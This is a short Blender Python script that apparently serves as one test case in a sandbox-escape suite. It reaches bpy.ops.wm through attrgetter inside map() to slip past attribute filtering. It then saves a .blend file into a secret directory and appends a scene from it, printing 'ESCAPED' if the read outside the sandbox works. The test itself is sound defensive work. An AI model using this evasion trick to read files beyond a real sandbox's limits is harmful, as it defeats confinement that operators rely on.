# attack: appends an object from a .blend outside, attrgetter built inside map()
# family: files
import bpy
from operator import attrgetter

windows, = [get(bpy.ops) for get in map(attrgetter, ["wm"])]
print("REACHED", windows)
windows.save_as_mainfile(filepath="$SECRET_DIR/b-files-35.blend", copy=True, check_existing=False)
before = len(bpy.data.scenes)
windows.append(directory="$SECRET_DIR/b-files-35.blend/Scene/", filename=bpy.context.scene.name)
if len(bpy.data.scenes) > before:
    print("ESCAPED", "read a .blend outside")
